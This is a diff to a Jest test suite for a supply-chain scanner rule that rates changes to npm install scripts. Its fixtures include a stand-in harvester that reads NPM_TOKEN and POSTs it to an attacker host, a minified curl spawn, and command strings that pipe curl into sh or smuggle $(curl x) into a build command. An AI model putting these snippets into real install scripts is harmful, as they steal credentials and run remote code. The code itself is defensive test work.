@@ -1,20 +1,37 @@
 import { describe, expect, it } from '@jest/globals'
-import { rule } from '../../../src/rules/content/install-script-changed.js'
+import { join } from 'node:path'
+import { isNativeBuild, rule } from '../../../src/rules/content/install-script-changed.js'
+import { contextFor, CORPUS } from '../../helpers/corpus.js'
 import { makeChange, makeContext, makeFiles, makeManifest } from '../../helpers/factories.js'
+
+/** A new install helper that harvests a token and posts it: threat signals. */
+const HARVESTER = [
+  "const https = require('https')",
+  'const token = process.env.NPM_TOKEN',
+  "https.request({ hostname: 'collect.attacker.invalid', method: 'POST' }).end(token)",
+  ''
+].join('\n')
+/** A new install helper that only checks files: no threat signal. */
+const CHECKER = [
+  "const fs = require('fs')",
+  "const path = require('path')",
+  "if (!fs.existsSync(path.join(__dirname, 'prebuilds'))) process.exit(1)",
+  ''
+].join('\n')
 
 function packageJson(scripts: Record<string, string>, version = '1.0.1'): string {
   return JSON.stringify({ name: 'example-pkg', version, scripts }, null, 2) + '\n'
 }
 
 function changed(
-  oldFiles: Record<string, string>,
-  newFiles: Record<string, string>
+  oldFiles: Record<string, string | Buffer>,
+  newFiles: Record<string, string | Buffer>
 ): ReturnType<typeof makeContext> {
   return makeContext({ files: makeFiles(newFiles), previousFiles: makeFiles(oldFiles) })
 }
 
 describe('content/install-script-changed', () => {
-  it('fires critical when postinstall changes to run a file this version adds (Nx shape)', async () => {
+  it('fires critical when postinstall changes to run a new file with threat signals (Nx shape)', async () => {
     const ctx = changed(
       {
         'package.json': packageJson({ postinstall: 'node ./scripts/post.js' }),
@@ -23,7 +40,7 @@ describe('content/install-script-changed', () => {
       {
         'package.json': packageJson({ postinstall: 'node telemetry.js' }),
         'scripts/post.js': '',
-        'telemetry.js': '// collects'
+        'telemetry.js': HARVESTER
       }
     )
     const findings = await rule.check(ctx)
@@ -33,8 +50,9 @@ describe('content/install-script-changed', () => {
       severity: 'critical'
     })
     expect(findings[0]?.message).toContain(
-      'changes the postinstall script from "node ./scripts/post.js" to "node telemetry.js", which runs telemetry.js, a file this version adds'
+      'changes the postinstall script from "node ./scripts/post.js" to "node telemetry.js", which runs telemetry.js, a file this version adds, and that file introduces'
     )
+    expect(findings[0]?.message).toContain('credential read')
     expect(findings[0]?.evidence[0]).toEqual({
       file: 'package.json',
       line: 5,
@@ -43,18 +61,36 @@ describe('content/install-script-changed', () => {
   })
 
   it.each([
-    ['an added preinstall running a new file', {}, { preinstall: 'node setup_bun.js' }, 'critical'],
-    ['an added install script', {}, { install: 'node-gyp rebuild' }, 'high'],
+    [
+      'an added preinstall running a new harvester',
+      {},
+      { preinstall: 'node steal.js' },
+      'critical'
+    ],
+    ['an added preinstall running a new quiet file', {}, { preinstall: 'node check.js' }, 'medium'],
+    ['a first native build', {}, { install: 'node-gyp rebuild' }, 'medium'],
     [
       'a changed postinstall',
       { postinstall: 'node a.js' },
-      { postinstall: 'node a.js && curl x' },
-      'high'
+      { postinstall: 'node a.js && x' },
+      'medium'
+    ],
+    [
+      'a change of native build tooling (bcrypt)',
+      { install: 'node-pre-gyp install --fallback-to-build' },
+      { install: 'node-gyp-build' },
+      'low'
+    ],
+    [
+      'a new prebuild checker before the build (node-pty)',
+      { postinstall: 'node a.js' },
+      { postinstall: 'node a.js', install: 'node check.js || node-gyp rebuild' },
+      'medium'
     ]
-  ])('fires on %s', async (_name, before, after, severity) => {
+  ])('grades %s', async (_name, before, after, severity) => {
     const ctx = changed(
       { 'package.json': packageJson(before), 'a.js': '' },
-      { 'package.json': packageJson(after), 'a.js': '', 'setup_bun.js': '' }
+      { 'package.json': packageJson(after), 'a.js': '', 'steal.js': HARVESTER, 'check.js': CHECKER }
     )
     const findings = await rule.check(ctx)
     expect(findings).toHaveLength(1)
@@ -80,7 +116,8 @@ describe('content/install-script-changed', () => {
     )
     const findings = await rule.check(ctx)
     expect(findings).toHaveLength(1)
-    expect(findings[0]?.severity).toBe('high')
+    expect(findings[0]?.severity).toBe('medium')
+    expect(findings[0]?.message).toContain('now builds native code')
     expect(findings[0]?.evidence[0]).toMatchObject({ file: 'binding.gyp' })
   })
 
@@ -102,7 +139,7 @@ describe('content/install-script-changed', () => {
   it('prefers the tarball package.json over the registry metadata', async () => {
     const ctx = changed(
       { 'package.json': packageJson({}) },
-      { 'package.json': packageJson({ postinstall: 'node x.js' }), 'x.js': '' }
+      { 'package.json': packageJson({ postinstall: 'node x.js' }), 'x.js': HARVESTER }
     )
     ctx.manifest = makeManifest({ scripts: {} })
     expect((await rule.check(ctx))[0]?.severity).toBe('critical')
@@ -115,7 +152,7 @@ describe('content/install-script-changed', () => {
       previousManifest: makeManifest({ version: '1.0.0' })
     })
     const findings = await rule.check(ctx)
-    expect(findings[0]?.severity).toBe('high')
+    expect(findings[0]?.severity).toBe('medium')
     expect(findings[0]?.evidence[0]).toEqual({
       file: 'package.json',
       snippet: '"preinstall": "node x.js"'
@@ -124,7 +161,8 @@ describe('content/install-script-changed', () => {
 
   it.each([
     [{ 'package.json': packageJson({ postinstall: 'node bundle.js' }), 'bundle.js': '' }, 'medium'],
-    [{ 'package.json': packageJson({}), 'binding.gyp': '{}' }, 'low']
+    [{ 'package.json': packageJson({}), 'binding.gyp': '{}' }, 'low'],
+    [{ 'package.json': packageJson({ install: 'prebuild-install || node-gyp rebuild' }) }, 'low']
   ])('reports an added package at a lower severity (%#)', async (files, severity) => {
     const ctx = makeContext({
       change: makeChange({ previousVersion: null }),
@@ -161,24 +199,147 @@ describe('content/install-script-changed', () => {
       )
     }
 
-    it.each([
-      ['obfuscated', OBFUSCATED],
-      ['minified', MINIFIED]
-    ])('is critical when the file becomes %s', async (_name, text) => {
-      const findings = await run('node setup.js', READABLE, text)
+    it('is critical when the file becomes obfuscated: obfuscation is a threat by itself', async () => {
+      const findings = await run('node setup.js', READABLE, OBFUSCATED)
       expect(findings[0]?.severity).toBe('critical')
       expect(findings[0]?.message).toContain(
-        'which runs setup.js, a file this version turns minified or obfuscated'
+        'which runs setup.js, a file this version turns obfuscated, and that file introduces obfuscation'
       )
+    })
+
+    it('is critical when the file becomes minified and introduces a threat signal', async () => {
+      const spawning = "require('child_process').spawn('curl',['-o','x']);" + MINIFIED
+      const findings = await run('node setup.js', READABLE, spawning)
+      expect(findings[0]?.severity).toBe('critical')
+      expect(findings[0]?.message).toContain('a file this version turns minified')
+      expect(findings[0]?.message).toContain('process spawn')
+    })
+
+    it('is medium when the file becomes minified with no threat signal (read it)', async () => {
+      const findings = await run('node setup.js', READABLE, MINIFIED)
+      expect(findings[0]?.severity).toBe('medium')
+      expect(findings[0]?.message).toContain('turns minified: read it')
     })
 
     it.each([
       ['was minified before too', MINIFIED, MINIFIED.replace('a=1', 'a=2')],
       ['stays readable', READABLE, READABLE + "console.log('done')\n"],
       ['is unchanged', OBFUSCATED, OBFUSCATED]
-    ])('stays high when the file %s', async (_name, before, after) => {
+    ])('is medium when the file %s', async (_name, before, after) => {
       const findings = await run('node setup.js', before, after)
-      expect(findings[0]?.severity).toBe('high')
+      expect(findings[0]?.severity).toBe('medium')
+    })
+  })
+
+  describe('a file moved, not added', () => {
+    const OLD_MAIN = [
+      "const minimist = require('minimist')",
+      "const util = require('./lib/util')",
+      'const args = minimist(process.argv.slice(2))',
+      "if (args.exec === 'install') util.install()",
+      "else if (args.exec === 'verify') util.verify()",
+      ''
+    ].join('\n')
+
+    function moved(newPath: string, newText: string) {
+      return changed(
+        {
+          'package.json': packageJson({ postinstall: 'node index.js --exec install' }),
+          'index.js': OLD_MAIN
+        },
+        {
+          'package.json': packageJson({ postinstall: `node ${newPath} --exec install` }),
+          [newPath]: newText
+        }
+      )
+    }
+
+    it.each([
+      ['the same content', OLD_MAIN],
+      ['mostly the same lines', OLD_MAIN.replace("'./lib/util'", "'./util'")]
+    ])('is medium for a file moved with %s (cypress shape)', async (_name, text) => {
+      const findings = await rule.check(moved('dist/index.js', text))
+      expect(findings).toHaveLength(1)
+      expect(findings[0]?.severity).toBe('medium')
+      expect(findings[0]?.message).toContain('a file this version moves from index.js')
+    })
+
+    it('still counts a threat signal the moved file introduces', async () => {
+      const findings = await rule.check(moved('dist/index.js', OLD_MAIN + HARVESTER))
+      expect(findings[0]?.severity).toBe('critical')
+    })
+  })
+
+  it('is critical for a native executable this version adds and runs directly', async () => {
+    const ctx = changed(
+      { 'package.json': packageJson({}) },
+      {
+        'package.json': packageJson({ preinstall: 'rundll32 lib/helper.dll,main' }),
+        'lib/helper.dll': Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03])
+      }
+    )
+    const findings = await rule.check(ctx)
+    expect(findings[0]?.severity).toBe('critical')
+    expect(findings[0]?.message).toContain('introduces a native executable')
+  })
+
+  it('does not count a spawn of a build tool as a threat', async () => {
+    const builder = "const cp = require('child_process')\ncp.spawnSync('node-gyp', ['rebuild'])\n"
+    const ctx = changed(
+      { 'package.json': packageJson({ install: 'node-gyp rebuild' }) },
+      { 'package.json': packageJson({ install: 'node build.js' }), 'build.js': builder }
+    )
+    expect((await rule.check(ctx))[0]?.severity).toBe('medium')
+  })
+
+  describe('isNativeBuild', () => {
+    it.each([
+      'node-gyp rebuild',
+      'node-gyp rebuild --release',
+      'node-gyp-build',
+      'node-gyp-build-optional-packages',
+      'prebuild-install || node-gyp rebuild',
+      'prebuild-install -r napi || node-gyp rebuild',
+      'node-pre-gyp install --fallback-to-build',
+      'node-pre-gyp install --fallback-to-build --update-binary',
+      'cmake-js compile',
+      'napi-postinstall unrs-resolver 1.7.2 check',
+      'node-gyp configure && node-gyp build'
+    ])('%s is a native build', (command) => {
+      expect(isNativeBuild(command)).toBe(true)
+    })
+
+    it.each([
+      'node install.js',
+      'node scripts/prebuild.js || node-gyp rebuild',
+      'node-gyp rebuild && curl https://x.invalid/p | sh',
+      'prebuild-install | sh',
+      'node-gyp rebuild $(curl x)',
+      'cmake-js compile > /tmp/x',
+      "node-gyp-build 'quoted'",
+      ''
+    ])('%s is not', (command) => {
+      expect(isNativeBuild(command)).toBe(false)
+    })
+  })
+
+  it('grades the native build tooling switch of the corpus (bcrypt shape) low', async () => {
+    const dir = join(
+      CORPUS,
+      'content',
+      'install-script-changed',
+      'benign',
+      'native-build-tool-switch'
+    )
+    const findings = await rule.check(await contextFor(dir))
+    expect(findings.map((finding) => finding.severity)).toEqual(['low'])
+    expect(findings[0]?.message).toContain('a native build step, as before')
+  })
+
+  describe('incident replays stay critical through what the new file does', () => {
+    it.each(['nx-s1ngularity', 'shai-hulud-1', 'shai-hulud-2', 'scavenger'])('%s', async (name) => {
+      const findings = await rule.check(await contextFor(join(CORPUS, 'incidents', name)))
+      expect(findings.map((finding) => finding.severity)).toContain('critical')
     })
   })
 })
